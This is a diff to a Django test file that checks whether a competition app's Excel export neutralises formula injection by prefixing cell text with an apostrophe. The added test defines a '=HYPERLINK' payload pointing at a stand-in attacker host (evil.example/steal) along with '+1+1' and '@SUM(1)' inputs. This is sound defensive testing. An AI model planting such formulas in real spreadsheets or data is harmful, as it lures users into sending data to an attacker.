@@ -10,9 +10,11 @@ from openpyxl import load_workbook
 
 from podium.dashboard.selectors import edition_stats, teams_by
 from podium.judging.models import StageEntry
+from podium.registration.models import Enterprise, Project, Team
 from podium.reports.workbook import edition_workbook
 
 pytestmark = pytest.mark.django_db
+ATTACK = '=HYPERLINK("http://evil.example/steal","点击查看")'
 SHEETS = [
     "概况 Figures",
     "按省份 By province",
@@ -111,3 +113,25 @@ def test_workbook_sends_anonymous_visitors_to_log_in(client):
 
     assert response.status_code == 302
     assert response["Location"].startswith(reverse("accounts:login"))
+
+
+def test_workbook_team_text_starting_like_a_formula_is_text(edition):
+    first = (
+        StageEntry.objects.filter(stage__kind="semifinal", track__code="leader", rank=1)
+        .select_related("project")
+        .get()
+    )
+    project = first.project
+    Project.objects.filter(pk=project.pk).update(title=ATTACK)
+    Team.objects.filter(pk=project.team_id).update(name="+1+1")
+    Enterprise.objects.filter(pk=project.lead_enterprise_id).update(name="@SUM(1)")
+
+    book = load_workbook(io.BytesIO(edition_workbook(edition)))
+
+    for title in ("全国半决赛·领军组", "总决赛名单 Finalists"):
+        row = next(r for r in book[title].iter_rows() if r[1].value == project.code)
+        assert [(c.value, c.data_type) for c in row[2:5]] == [
+            ("'" + ATTACK, "s"),
+            ("'+1+1", "s"),
+            ("'@SUM(1)", "s"),
+        ]
